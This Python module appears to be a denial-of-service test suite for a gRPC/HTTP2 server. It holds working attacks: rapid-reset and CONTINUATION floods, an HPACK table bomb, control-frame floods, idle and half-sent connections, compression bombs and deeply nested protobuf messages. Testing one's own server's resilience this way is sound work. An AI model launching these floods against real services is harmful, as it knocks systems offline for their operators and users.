"""Attacks below the services: connections, frames, header blocks."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Sequence

from _attack_target import MIB, Target, long_field, method

from trio_cogment.api import common_pb2, orchestrator_pb2

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 1, 2, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_VERSION = "/cogmentAPI.TrialLifecycleSP/Version"
_REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
_HEALTH_WATCH = "/grpc.health.v1.Health/Watch"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header that is written out in full and enters no table."""
    pieces = b"\x00"
    for text in (name, value):
        size = len(text)
        prefix = bytes((size,)) if size < 127 else b"\x7f"
        rest = size - 127
        if size >= 127:
            while rest >= 128:
                prefix += bytes((rest & 127 | 128,))
                rest >>= 7
            prefix += bytes((rest,))
        pieces += prefix + text.encode()
    return pieces


def request_headers(path: str, *more: tuple[str, str]) -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x")]
    fields += [("content-type", "application/grpc"), ("te", "trailers"), *more]
    return b"".join(literal(*field) for field in fields)


def message(payload: bytes) -> bytes:
    """A DATA frame's content: a gRPC message."""
    return struct.pack(">BI", 0, len(payload)) + payload


def resetting(calls: int) -> bytes:
    """A connection that opens calls and resets each at once."""
    block = request_headers(_VERSION)
    pieces = [_PREFACE, frame(_SETTINGS, 0, 0)]
    for number in range(calls):
        pieces.append(frame(_HEADERS, _END_HEADERS, 2 * number + 1, block))
        pieces.append(frame(_RESET, 0, 2 * number + 1, struct.pack(">I", 8)))
    return b"".join(pieces)


def calling(calls: int, path: str, payload: bytes, *more: tuple[str, str]) -> bytes:
    """A connection that makes calls with one message each."""
    block = request_headers(path, *more)
    data = message(payload)
    pieces = [_PREFACE, frame(_SETTINGS, 0, 0)]
    for number in range(calls):
        stream = 2 * number + 1
        pieces.append(frame(_HEADERS, _END_HEADERS, stream, block))
        pieces.append(frame(0, _END_STREAM, stream, data))
    return b"".join(pieces)


async def _send_and_stay(target: Target, connections: int, data: bytes, *, lanes: int = 64) -> None:
    """Open connections, write the same to each, and read nothing until the time is over."""
    kept = []

    async def one(_: int) -> None:
        _, writer = await target.connect()
        kept.append(writer)
        writer.write(data)
        await writer.drain()

    await target.in_lanes(lanes, one, connections)
    await asyncio.sleep(target.seconds_left)


async def connections_of_resets(target: Target) -> None:
    """1,101 connections of 199 resets each, again and again."""
    data = resetting(199)

    async def one(_: int) -> None:
        _, writer = await target.connect()
        writer.write(data)
        await writer.drain()
        writer.close()

    await target.in_lanes(32, one, target.many(1101))


async def small_calls(target: Target) -> None:
    """45,000 calls of nothing on a few connections."""
    calls = target.many(45_000)
    async with target.channel() as one, target.channel() as two, target.channel() as three:
        ask = [method(channel, "TrialLifecycleSP/Version") for channel in (one, two, three)]
        await target.in_lanes(96, lambda number: ask[number % 3](common_pb2.VersionRequest()), calls)


async def small_calls_unread(target: Target) -> None:
    """45,000 calls that are written at once, 900 to a connection, whose answers nobody reads."""
    await _send_and_stay(target, target.many(50), calling(900, _VERSION, b""))


async def silent_connections(target: Target) -> None:
    """3,000 connections that are opened and left, half of them before they have said a word."""
    await _send_and_stay(target, target.many(1500), b"")
    await _send_and_stay(target, target.many(1500), _PREFACE + frame(_SETTINGS, 0, 0))


async def brief_connections(target: Target) -> None:
    """20,000 connections, each closed at once."""

    async def one(_: int) -> None:
        _, writer = await target.connect()
        writer.write(_PREFACE + frame(_SETTINGS, 0, 0))
        writer.close()

    await target.in_lanes(16, one, target.many(20_000))


async def open_calls(target: Target) -> None:
    """50,000 calls that stay open: 100 connections that watch the server's health 500 times each."""
    data = calling(500, _HEALTH_WATCH, b"")
    await _send_and_stay(target, target.many(100), data)


async def half_messages(target: Target) -> None:
    """200 connections of 60 calls each that announce 4 MiB, send 60 KiB of it, as far as they may, and stop."""
    path = "/cogmentAPI.TrialLifecycleSP/StartTrial"
    block = request_headers(path)
    data = struct.pack(">BI", 0, 4 * MIB - 8) + bytes(60_000)

    async def one(_: int) -> None:
        reader, writer = await target.connect()
        kept.append(writer)
        writer.write(_PREFACE + frame(_SETTINGS, 0, 0))
        lurking.append(asyncio.ensure_future(_send_as_allowed(reader, writer)))
        await writer.drain()

    async def _send_as_allowed(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        window = 65_535
        for number in range(60):
            stream = 2 * number + 1
            writer.write(frame(_HEADERS, _END_HEADERS, stream, block))
            for start in range(0, len(data), 16_000):
                piece = data[start : start + 16_000]
                while window < len(piece):
                    window += await _next_credit(reader)
                window -= len(piece)
                writer.write(frame(0, 0, stream, piece))
                await writer.drain()
        while True:
            await _next_credit(reader)

    kept: list[asyncio.StreamWriter] = []
    lurking: list[asyncio.Future[None]] = []
    await target.in_lanes(64, one, target.many(200))
    await asyncio.sleep(target.seconds_left)
    for task in lurking:
        task.cancel()
    for end in await asyncio.gather(*lurking, return_exceptions=True):
        if not isinstance(end, asyncio.CancelledError):
            target.count(type(end).__name__)


async def _next_credit(reader: asyncio.StreamReader) -> int:
    """Read a frame; return by how much it lets the connection's window grow."""
    head = await reader.readexactly(9)
    payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
    is_credit = head[3] == _WINDOW_UPDATE and not any(head[5:])
    return int.from_bytes(payload, "big") if is_credit else 0


async def large_metadata(target: Target) -> None:
    """20,000 calls with 15 KiB of metadata each."""
    more: Sequence[tuple[str, str]] = [(f"x-{number}", "v" * 1000) for number in range(14)]
    await _send_and_stay(target, target.many(100), calling(200, _VERSION, b"", *more))


async def compressed_bombs(target: Target) -> None:
    """1,000 starts of trials of 4 KiB each that decompress to 4 MiB."""
    request = orchestrator_pb2.TrialStartRequest(user_id="u")
    request.config.content = bytes(4 * MIB - 64)
    async with target.channel(grpc_default_compression_algorithm=2) as channel:
        start = method(channel, "TrialLifecycleSP/StartTrial")
        await target.in_lanes(64, lambda _: start(request), target.many(1000))


async def deep_messages(target: Target) -> None:
    """200 messages of 4 MiB that are nothing but groups in groups."""
    groups = bytes((0xC3, 0x3E)) * (2 * MIB - 100)
    async with target.channel() as channel:
        start = channel.unary_unary("/cogmentAPI.TrialLifecycleSP/StartTrial")
        await target.in_lanes(8, lambda _: start(groups), target.many(200))


async def wide_messages(target: Target) -> None:
    """200 starts of 4 MiB that are two million actors of nothing."""
    request = long_field(4, bytes((0x22, 0)) * (2 * MIB - 100))  # the field `actors` of the parameters
    async with target.channel() as channel:
        start = channel.unary_unary("/cogmentAPI.TrialLifecycleSP/StartTrial")
        await target.in_lanes(8, lambda _: start(request), target.many(200))


async def header_floods(target: Target) -> None:
    """200 connections of header blocks: one without end, and many that stand for 4,000 fields in a few bytes each."""
    endless = frame(_HEADERS, 0, 1, request_headers(_VERSION)) + b"".join(
        frame(_CONTINUATION, 0, 1, literal(f"x-{number}", "v" * 1000)) for number in range(5000)
    )
    # A field of 4 KiB enters the table, and each further byte means it again.
    value = b"v" * 3900
    bomb = bytes((0x40, 1)) + b"x" + b"\x7f" + bytes((3900 - 127 & 127 | 128, 3900 - 127 >> 7)) + value
    again = b"".join(
        frame(
            _HEADERS, _END_HEADERS, 2 * number + 1, request_headers(_VERSION) + (bomb if not number else b"\xbe" * 4000)
        )
        for number in range(150)
    )
    preface = _PREFACE + frame(_SETTINGS, 0, 0)
    half = target.many(200) // 2 or 1
    await asyncio.gather(_send_and_stay(target, half, preface + endless), _send_and_stay(target, half, preface + again))


async def control_floods(target: Target) -> None:
    """300 connections, each with 50,000 PINGs, SETTINGS, PRIORITYs or small credits, and reads no answer."""
    floods = (
        frame(_PING, 0, 0, bytes(8)),
        frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)),
        frame(_PRIORITY, 0, 1, bytes(5)),
        frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
    )
    preface = _PREFACE + frame(_SETTINGS, 0, 0)
    share = target.many(300) // len(floods) or 1
    await asyncio.gather(*(_send_and_stay(target, share, preface + flood * 50_000, lanes=16) for flood in floods))


async def reflections_unread(target: Target) -> None:
    """200 connections, each with 100 calls that ask for the description of a file, whose answers nobody reads."""
    symbol = b"cogmentAPI.TrialLifecycleSP"
    request = bytes((0x22, len(symbol))) + symbol
    await _send_and_stay(target, target.many(200), calling(100, _REFLECTION, request))
